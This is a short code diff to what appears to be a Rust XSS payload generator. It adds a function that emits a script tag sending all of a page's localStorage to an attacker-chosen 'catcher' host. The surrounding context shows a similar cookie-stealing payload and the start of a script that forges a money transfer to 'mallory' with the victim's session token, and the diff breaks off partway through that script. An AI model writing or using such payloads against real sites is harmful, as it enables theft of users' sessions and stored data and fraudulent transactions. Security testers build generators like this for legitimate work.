@@ -16,6 +16,14 @@ fn report(catcher: &str) -> String {
     format!("'{catcher}?cookie='+encodeURIComponent(document.cookie)")
 }
 
+/// Loads an image whose address carries everything in `localStorage` to the catcher.
+pub fn steal_storage(catcher: &str) -> String {
+    format!(
+        "<script>new Image().src='{catcher}?storage='+encodeURIComponent(JSON.stringify(localStorage))\
+         </script>"
+    )
+}
+
 /// Posts the transfer form from the victim's own page, with the token that stands there.
 pub fn ride_session() -> String {
     "<script>f=new URLSearchParams({to:'mallory',amount:'1'});\
